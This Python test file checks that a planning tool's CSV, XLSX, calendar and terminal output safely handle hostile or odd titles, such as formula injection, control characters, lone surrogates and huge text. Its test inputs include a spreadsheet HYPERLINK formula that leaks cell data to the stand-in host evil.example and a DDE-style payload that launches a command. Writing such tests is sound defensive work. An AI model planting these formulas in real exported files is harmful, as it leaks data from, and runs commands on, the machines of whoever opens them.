"""Plan text that is hostile or merely odd: formulas, control characters, lone surrogates,
huge titles; and output into a pipe that closes early."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from dataclasses import replace
from functools import cache
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from paths import REPO, SEED_PLAN

from planner.app.documents import read_plan
from planner.cli.main import main
from planner.domain.engine import recalculate
from planner.domain.model import Plan
from planner.domain.results import RecalcOptions

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'


def plan_with_title(tmp_path: Path, title: str, name: str = "plan.json") -> Path:
    """The default plan with its first report line (and the plan) titled `title`."""
    doc = json.loads(SEED_PLAN.read_text())
    doc["reports"][0]["title"] = title
    doc["title"] = title
    path = tmp_path / name
    path.write_text(json.dumps(doc), encoding="utf-8")  # ASCII with \\u escapes
    return path


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


# --- formula injection ----------------------------------------------------------------------


def test_xlsx_writes_a_formula_like_title_as_text(tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "t.xlsx"
    assert main(["export-table", str(plan_with_title(tmp_path, FORMULA)), str(out)]) == 0
    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet
    cells = [row[0] for row in load_workbook(out).active.iter_rows(min_row=2)]
    assert {c.data_type for c in cells} == {"s"}
    assert FORMULA in {c.value for c in cells}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_values_a_spreadsheet_would_run(tmp_path, start):
    title = f"{start}cmd|' /C calc'!A0"
    out = tmp_path / "t.csv"
    assert main(["export-table", str(plan_with_title(tmp_path, title)), str(out)]) == 0
    titles = {row[0] for row in csv_rows(out)[1:]}
    assert "'" + title in titles and title not in titles


@cache
def _default_plan() -> Plan:
    return read_plan(SEED_PLAN)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(title=st.text(min_size=1, max_size=40))
def test_no_table_cell_ever_starts_a_formula(tmp_path, title):
    """Whatever the text, the CSV cell never starts like a formula and reads back as the text
    (with the leading quote when one was added); the XLSX cell is a text cell."""
    from openpyxl import load_workbook

    from planner.export.tables import write_csv, write_xlsx

    plan = _default_plan()
    report = replace(plan.reports[0], title=title)
    plan = replace(plan, reports=(report, *plan.reports[1:]))
    requirements = recalculate(plan, RecalcOptions()).requirements
    out = tmp_path / "t.csv"
    write_csv(plan, requirements, out)
    cell = next(r[0] for r in csv_rows(out)[1:] if r[1] == report.id)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (title, "'" + title)
    xlsx = tmp_path / "t.xlsx"
    write_xlsx(plan, requirements, xlsx)
    row = next(
        r for r in load_workbook(xlsx).active.iter_rows(min_row=2) if r[1].value == report.id
    )
    assert row[0].data_type == "s"


# --- control characters, surrogates, huge text ----------------------------------------------


def test_xlsx_with_control_characters_is_written(tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "t.xlsx"
    title = "Report\x1b[31m with\x07 control\x00 characters"
    assert main(["export-table", str(plan_with_title(tmp_path, title)), str(out)]) == 0
    titles = {row[0] for row in load_workbook(out).active.iter_rows(min_row=2, values_only=True)}
    assert "Report\ufffd[31m with\ufffd control\ufffd characters" in titles


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("export-table", "t.csv"),
        ("export-table", "t.xlsx"),
        ("export-ics", "c.ics"),
        ("dump", "d.json"),
        ("export-image", "i.svg"),
    ],
)
def test_a_lone_surrogate_is_written_as_a_replacement_character(tmp_path, capsys, command, name):
    plan = plan_with_title(tmp_path, "Report \ud800 title")
    out = tmp_path / "out"
    out.mkdir()
    assert main([command, str(plan), str(out / name)]) == 0, capsys.readouterr().err
    assert [p.name for p in out.iterdir()] == [name]  # and no temporary file left
    data = (out / name).read_bytes()
    if name.endswith(".xlsx"):
        book = zipfile.ZipFile(out / name)
        data = b"".join(book.read(n) for n in book.namelist() if n.endswith(".xml"))
    data = data.replace(b"\r\n ", b"").replace(b"&#65533;", "\ufffd".encode())
    assert "Report \ufffd title".encode() in data


def test_recalc_escapes_control_characters_and_surrogates(tmp_path, capsys):
    plan = plan_with_title(tmp_path, "Bell\x07 escape\x1b[2J surrogate\ud800")
    assert main(["recalc", str(plan)]) == 0
    out = capsys.readouterr().out
    assert "\x07" not in out and "\x1b" not in out
    assert "Bell\\x07 escape\\x1b[2J surrogate\\ud800" in out
    assert main(["recalc", str(plan), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["requirements"]


ANY_CHARACTER = st.one_of(st.characters(), st.characters(categories=["Cc", "Cs"]))


@given(text=st.text(alphabet=ANY_CHARACTER, max_size=30))
def test_terminal_text_never_carries_a_control_character(text):
    import unicodedata

    from planner.cli.main import printable

    shown = printable(text)
    assert not any(unicodedata.category(c) in ("Cc", "Cs") for c in shown)
    if not any(unicodedata.category(c) in ("Cc", "Cs") for c in text):
        assert shown == text
    shown.encode("utf-8")  # always printable on a UTF-8 terminal


@pytest.mark.timeout(60)
def test_a_ten_megabyte_title_gives_a_bounded_calendar(tmp_path):
    out = tmp_path / "c.ics"
    assert main(["export-ics", str(plan_with_title(tmp_path, "x" * 10_000_000)), str(out)]) == 0
    assert out.stat().st_size < 2_000_000
    assert "…" in out.read_text(encoding="utf-8")


# --- a pipe that closes early ------------------------------------------------------------------


def test_recalc_into_a_pipe_closed_early_ends_quietly(tmp_path):
    """`planner recalc PLAN | head -1`: the reader is gone before we write."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "planner.cli.main", "recalc", str(SEED_PLAN)],
        cwd=REPO,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.close()  # like `head` exiting
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=60) == 141
    assert err == ""
